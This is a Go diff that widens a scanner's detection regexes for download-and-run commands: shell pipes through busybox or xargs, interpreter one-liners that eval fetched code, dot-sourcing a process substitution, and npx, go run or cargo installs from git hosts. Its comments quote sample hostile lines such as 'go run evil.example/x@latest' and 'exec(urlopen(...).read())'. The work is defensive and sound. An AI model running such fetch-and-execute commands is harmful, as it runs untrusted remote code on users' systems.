@@ -52,7 +52,12 @@ const (
 	// sudo or doas with options ("sudo -E bash -", NodeSource's installer
 	// line), env with options or assignments, and a path ("/bin/bash",
 	// "/usr/bin/env bash"; attack pass 42i row 4).
-	shellRunner = `(?:(?:sudo|doas)(?:\s+(?:-[ugp]\s+\S+|-[-\w]+(?:=\S+)?))*\s+)?(?:(?:/[\w.-]+)*/)?(?:env(?:\s+(?:-\S+|\w+=\S*))*\s+(?:(?:/[\w.-]+)*/)?)?`
+	//
+	// Attack pass 44c, row 2: busybox before the shell ("| busybox sh"),
+	// and xargs handing the download to a shell's -c ("| xargs -0 bash
+	// -c"); the pipe's shell may be ash, mksh, csh, tcsh or fish too.
+	shellRunner = `(?:(?:sudo|doas)(?:\s+(?:-[ugp]\s+\S+|-[-\w]+(?:=\S+)?))*\s+)?(?:(?:/[\w.-]+)*/)?(?:env(?:\s+(?:-\S+|\w+=\S*))*\s+(?:(?:/[\w.-]+)*/)?)?` +
+		`(?:(?:busybox|xargs(?:\s+-[-\w]+(?:=\S+)?)*)\s+(?:(?:/[\w.-]+)*/)?)?`
 	// fetchRun is a download run without a pipe (attack pass 42i row 6):
 	// a shell's -c given a command substitution of a download
 	// (Homebrew's and oh-my-zsh's installer lines), a shell or source
@@ -61,8 +66,13 @@ const (
 	// System.Net.WebClient).DownloadString(...)), "iex (irm ...)"); only
 	// punctuation between iex and the download, so a list of command
 	// names ("blocks iex and irm") is none.
-	fetchRun = `\b(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby)\s+(?:-\w+\s+)*-\w*c\s+["']?(?:\$\(|` + "`" + `)\s*` + fetchTool +
+	//
+	// Attack pass 44c, row 2: an interpreter's own one-liner flag (-e,
+	// php's -r) given a command substitution of a download ("ruby -e
+	// \"$(curl ...)\""), and POSIX's "." for source ("'. <(curl ...)").
+	fetchRun = `\b(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|php)\s+(?:-\w+\s+)*-\w*[cer]\s+["']?(?:\$\(|` + "`" + `)\s*` + fetchTool +
 		`|\b(?:(?:ba|z|da|k)?sh|source|python3?|node|perl|ruby)\s+(?:-\S+\s+)*(?:<\s*)?<\(\s*` + fetchTool +
+		`|(?:^|[\s;&|({` + "`" + `'"])\.\s+(?:<\s*)?<\(\s*` + fetchTool +
 		`|\beval\s+["']?(?:\$\(|` + "`" + `)\s*` + fetchTool +
 		`|\b(?:start-process|saps)(?:\s+-filepath)?[\s("'&{$]*` + fetchTool +
 		`|\b(?:iex|invoke-expression)(?:\s+-command)?[\s("'&{$]*(?:new-object\s+(?:system\.)?net\.webclient\s*\)\s*\.\s*downloadstring\b|` + fetchTool + `)`
@@ -87,7 +97,25 @@ const (
 		`|\b(?:download|fetch|grab|retrieve|pull)\s+[^\n]{0,60}?https?://[^\s]+[^\n]{0,30}?(?:\band\s+|\bthen\s+|[,;]\s*)(?:then\s+)?(?:run|execute|exec|source|launch)\s+(?:it|that|this|them|the\s+(?:[\w-]+\s+)?(?:script|file|binary|installer|program|executable|helper))\b` +
 		`|\b(?:download|fetch|grab|retrieve|pull|save)\s+(?:[^\s]+\s+){0,3}?https?://[^\s]+\s+(?:to|as|into)\s+([^\s,;'"]*[^\s,;'".])[,;]?\s+(?:and\s+|then\s+)*(?:run|execute|exec|source|launch)\s+([^\s,;'"]*[^\s,;'".])`
 	fetchSavedRun = `\b(?:curl|wget|iwr|invoke-webrequest|certutil(?:\.exe)?\s[^\n|;&]{0,40}?-urlcache|bitsadmin(?:\.exe)?\s[^\n|;&]{0,40}?/transfer)\b[^\n|;&]{0,200}(?:&&|;|\|\|)\s*(?:sudo\s+)?(?:(?:(?:ba|z|da|k)?sh|source|\.|python3?|node|perl|ruby|pwsh|powershell(?:\.exe)?|chmod\s+\+x|start(?:-process)?|cmd(?:\.exe)?\s+/c)\s+(?:-\S+\s+)*([^\s'"&;|]*[^\s'"&;|.,:)])|([./~%][^\s'"&;|]*[^\s'"&;|.,:)]|[\w-]+\.(?:exe|bat|cmd|ps1|msi|com|scr|vbs|hta)\b))`
-	fetchURLRun   = `\bdeno\s+(?:run|install|eval)\b[^\n|;&]{0,60}?\bhttps?://` +
+	// fetchEvalRun is a download run in an interpreter's own language
+	// (attack pass 44c, row 2): a one-liner (python -c, node -e, php -r,
+	// ruby/perl -e, deno eval) whose code holds both an eval or exec and
+	// a URL, in either order ("exec(urlopen('https://...').read())",
+	// "fetch('https://...').then(r=>r.text()).then(eval)",
+	// "eval(file_get_contents('https://...'))").
+	fetchEvalRun = `\b(?:python[\d.]*|py|node|nodejs|bun|php|ruby|perl|lua|deno\s+eval|(?:pwsh|powershell)(?:\.exe)?)\s+(?:-\S+\s+)*?(?:-[cer]|--eval|-command)\s+["']?[^\n]{0,200}?` +
+		`(?:\b(?:eval|exec|iex|invoke-expression|instance_eval|load)\b[^\n]{0,200}?\bhttps?://|\bhttps?://[^\n]{0,200}?\b(?:eval|exec|iex|invoke-expression|instance_eval)\b)`
+	// fetchRemoteRun is a package runner or installer given a remote
+	// source that is no http URL (attack pass 44c, row 2): a git host's
+	// shorthand or a git URL to npx and its kin ("npx github:evil/x",
+	// "uvx --from git+ssh://..."), go run of a module at a version ("go
+	// run evil.example/x@latest": it fetches and runs that module's
+	// code), cargo install --git.
+	fetchRemoteRun = `\b(?:npx|bunx|pnpx|uvx|pnpm\s+dlx|pipx\s+run|uv\s+run|bun\s+x|npm\s+exec|yarn\s+dlx)\s+(?:-\S+\s+)*(?:--from\s+)?(?:github:|gitlab:|bitbucket:|gist:|git@|git\+|(?:git|ssh)://)` +
+		`|\b(?:pip3?|python3?\s+-m\s+pip|uv\s+pip|pipx|npm|pnpm|yarn|bun)\s+(?:i|install|add)\s+(?:-\S+\s+)*(?:github:|gitlab:|bitbucket:|git@|git\+|(?:git|ssh)://)` +
+		`|\bgo\s+run\s+(?:-\S+\s+)*[a-z0-9-]+(?:\.[a-z0-9-]+)+/[^\s@` + "`" + `'"]*@[\w.+-]+` +
+		`|\bcargo\s+install\s+(?:\S+\s+)*?--git[\s=]`
+	fetchURLRun = `\bdeno\s+(?:run|install|eval)\b[^\n|;&]{0,60}?\bhttps?://` +
 		`|\b(?:npx|bunx|pnpx|uvx|pnpm\s+dlx|pipx\s+run|uv\s+run|bun\s+x)\s+(?:-\S+\s+)*(?:git\+)?https?://` +
 		`|\b(?:pip3?|python3?\s+-m\s+pip|uv\s+pip|pipx)\s+install\s+(?:-\S+\s+)*(?:git\+)?https?://` +
 		`|\b(?:npm|pnpm|yarn|bun)\s+(?:i|install|add)\s+(?:-\S+\s+)*(?:git\+)?https?://|\byarn\s+global\s+add\s+(?:git\+)?https?://` +
@@ -364,7 +392,7 @@ var patterns = []*pattern{
 			`|\b(?:always|must|first)\b[^.\n]{0,60}\b(?:regardless of|no matter)\s+(?:what\s+)?(?:the\s+)?(?:user|request|task|question)`)},
 	{rule: rules.TextCommand, what: "a command that downloads and runs code",
 		triggers: []string{"curl", "wget", "iwr", "invoke-webrequest", "irm", "invoke-restmethod", "downloadstring", "powershell", "pwsh", "base64 -d", "base64 --decode"},
-		re: re(`\b` + fetchCmd + `[^|\n]{0,200}\|\s*` + pipeStages + shellRunner + `(?:ba|z|da|k)?sh\b|\b` + fetchCmd + `[^|\n]{0,200}\|\s*` + pipeStages + shellRunner + `(?:iex|invoke-expression|python3?|node|perl|ruby)\b` +
+		re: re(`\b` + fetchCmd + `[^|\n]{0,200}\|\s*` + pipeStages + shellRunner + `(?:(?:ba|z|da|k|a|mk|c|tc)?sh|fish)\b|\b` + fetchCmd + `[^|\n]{0,200}\|\s*` + pipeStages + shellRunner + `(?:iex|invoke-expression|python3?|node|perl|ruby)\b` +
 			`|\b(?:powershell|pwsh)(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand)\s` + `|\bbase64\s+(?:-d|--decode)\b[^|\n]{0,100}\|\s*(?:ba|z)?sh\b` +
 			`|` + fetchRun),
 		judge: downloadRunRefused},
@@ -383,6 +411,17 @@ var patterns = []*pattern{
 		triggers: []string{"deno", "npx", "bunx", "pnpx", "uvx", "dlx", "pipx", "uv ", "bun ", "pip", "npm", "yarn", "msiexec", "mshta", "regsvr32"},
 		also:     []string{"http://", "https://"},
 		re:       re(fetchURLRun),
+		judge:    downloadRunRefused},
+	{rule: rules.TextCommand, what: "a command that downloads and runs code", // attack pass 44c, row 2
+		triggers: []string{"eval", "exec", "iex", "invoke-expression", "load"},
+		also:     []string{"http://", "https://"},
+		also2:    []string{" -c", " -e", " -r", "--eval", "-command"},
+		re:       re(fetchEvalRun),
+		judge:    downloadRunRefused},
+	{rule: rules.TextCommand, what: "a command that downloads and runs code", // attack pass 44c, row 2
+		triggers: []string{"npx", "bunx", "pnpx", "uvx", "dlx", "pipx", "uv ", "bun ", "pip", "npm", "yarn", "go run", "cargo"},
+		also:     []string{"github:", "gitlab:", "bitbucket:", "gist:", "git@", "git+", "git://", "ssh://", "@", "--git"},
+		re:       re(fetchRemoteRun),
 		judge:    downloadRunRefused},
 	{rule: rules.TextComment, what: "an HTML or Markdown comment", token: true,
 		triggers: []string{"<!--", "]: #", "]:#", "](#)"},
@@ -930,8 +969,12 @@ func sentenceEnd(s string, start int) int {
 
 // dotSource: the "." at s[k] is the shell's source command after a
 // command separator ("wget -qO f URL; . f"; attack pass 43h, row 10), not
-// a full stop.
+// a full stop. Nor is one given a process substitution ("`. <(curl
+// URL)`"; attack pass 44c, row 2).
 func dotSource(s string, k int) bool {
+	if s[k] == '.' && (strings.HasPrefix(s[k+1:], " <(") || strings.HasPrefix(s[k+1:], " < <(")) {
+		return true
+	}
 	if s[k] != '.' || k < 2 || s[k-1] != ' ' {
 		return false
 	}
